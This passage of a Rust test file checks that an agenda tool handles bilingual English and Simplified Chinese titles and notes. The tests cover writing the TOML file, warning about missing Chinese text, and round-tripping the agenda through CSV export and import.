    assert_eq!(run.code, 0, "{}", run.stderr);
    let written = dir.read("agenda.toml");
    assert!(
        written.contains(r#"title = { en = "Welcome", zh-Hans = "欢迎致辞" }"#),
        "{written}"
    );
    assert!(
        written.contains(r#"notes = { en = "Open on time", zh-Hans = "准时开场" }"#),
        "{written}"
    );
    // A row without its Chinese title keeps its English one.
    assert!(written.contains(r#"title = { en = "Q&A" }"#), "{written}");
    let agenda = load(&dir.0.join("agenda.toml"));
    assert_eq!(
        agenda.segments[1].title.in_language("zh-Hans"),
        Some("圆桌讨论")
    );
    // check names what a language lacks.
    let check = dir.run(&["check"]);
    assert_eq!(check.code, 0, "{}", check.stderr);
    assert!(
        check.stderr.contains("has no zh-Hans text"),
        "check warns of the missing Chinese title:\n{}",
        check.stderr
    );
}

#[test]
fn a_bilingual_agenda_exports_to_a_sheet_and_imports_back_in_both_languages() {
    let dir = TempDir::new("bilingual-roundtrip");
    dir.file(
        "agenda.toml",
        &std::fs::read_to_string(repository().join("tests/fixtures/bilingual.toml")).unwrap(),
    );
    let run = dir.run(&["export", "--format", "csv", "-o", "sheet.csv"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let sheet = dir.read("sheet.csv");
    let header = sheet.lines().next().unwrap();
    assert!(
        header.ends_with("Title (zh-Hans),Notes (zh-Hans)"),
        "{header}"
    );
    let original = load(&dir.0.join("agenda.toml"));
    let run = dir.run(&["import", "sheet.csv", "-o", "again.toml"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let again = load(&dir.0.join("again.toml"));
    for (a, b) in original.segments.iter().zip(&again.segments) {
        for tag in ["en", "zh-Hans"] {
            assert_eq!(a.title.in_language(tag), b.title.in_language(tag));
            assert_eq!(
                a.notes.as_ref().and_then(|n| n.in_language(tag)),
                b.notes.as_ref().and_then(|n| n.in_language(tag))
            );
        }
    }
}
